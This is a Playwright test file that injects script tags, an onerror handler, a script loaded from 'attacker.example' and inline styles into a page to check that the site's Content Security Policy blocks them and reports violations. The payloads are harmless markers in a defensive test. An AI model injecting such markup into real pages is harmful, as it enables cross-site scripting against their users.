import type { Browser } from 'playwright-core';
import { launchBrowser, openPage, origin, untilReady } from './support/browser';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

/** Code that an attacker might inject into the HTML of a page. */
const INJECTED = `
<script>window.attacks = ['inline script']</script>
<img src="data:," onerror="window.attacks = ['event handler']">
<script src="/files/attack.js"></script>
<script src="https://attacker.example/attack.js"></script>
<style>h1 { letter-spacing: 77px }</style>
<h1 style="letter-spacing: 77px">Injected</h1>`;

describe('the security policy', () => {
  it('blocks injected code, and the page works', async () => {
    const { page, context } = await openPage(browser);
    const report = page.waitForResponse('**/api/reports/csp');
    const blocked: string[] = [];
    await page.exposeFunction('reportBlocked', (directive: string) => blocked.push(directive));
    await page.addInitScript(() => {
      const { reportBlocked } = window as unknown as { reportBlocked: (directive: string) => void };
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        reportBlocked(effectiveDirective),
      );
    });
    await context.route('**/attack.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: "window.attacks = ['script file']" }),
    );
    await context.route(`${origin()}/events`, async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('<div id="root">', `${INJECTED}<div id="root">`);
      await route.fulfill({ response, body });
    });
    await page.goto(`${origin()}/events`);
    await untilReady(page);
    const shown = await page.evaluate(() => ({
      attacks: (window as unknown as { attacks?: string[] }).attacks,
      spacing: [...document.querySelectorAll('h1')].map((title) => getComputedStyle(title).letterSpacing),
    }));
    expect(shown.attacks).toBeUndefined();
    expect(shown.spacing).not.toContain('77px');
    expect(blocked.sort()).toEqual([
      'script-src-attr',
      'script-src-elem',
      'script-src-elem',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ]);
    expect((await report).status()).toBe(204);
    await context.close();
  });

  it('is the same for every visitor of a page, which is therefore compressed once', async () => {
    const [first, second] = await Promise.all([fetch(`${origin()}/clubs`), fetch(`${origin()}/clubs`)]);
    expect(first.headers.get('content-security-policy')).toBe(second.headers.get('content-security-policy'));
    expect(await first.text()).toBe(await second.text());
  });
});
